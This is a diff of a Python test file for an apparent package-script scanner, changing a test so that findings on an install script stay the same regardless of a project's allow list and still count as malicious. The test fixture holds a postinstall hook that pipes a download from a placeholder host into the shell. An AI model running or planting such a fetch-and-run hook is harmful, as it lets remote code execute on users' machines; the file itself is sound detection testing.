@@ -112,11 +112,12 @@ def test_no_scripts_no_findings():
     assert findings(artifact(None)) == []
 
 
-def test_allowed_packages_are_reported_but_do_not_count():
-    settings = Settings(allowed_scripts=("pkg",))
-    found = findings(artifact({"postinstall": "curl https://x.example/a | sh"}), settings)
-    assert found and all(f.severity is Severity.INFO for f in found)
-    assert "allowed by policy" in found[0].message
+def test_findings_do_not_depend_on_the_allow_list():
+    # The allow list is policy, applied after the verdict: findings are cached by content and must
+    # be the same whatever a project's settings say.
+    art = artifact({"postinstall": "curl https://x.example/a | sh"})
+    allowed = findings(art, Settings(allowed_scripts=("pkg",)))
+    assert allowed == findings(art) and decide(allowed).level is Level.MALICIOUS
 
 
 @pytest.mark.parametrize("command", [
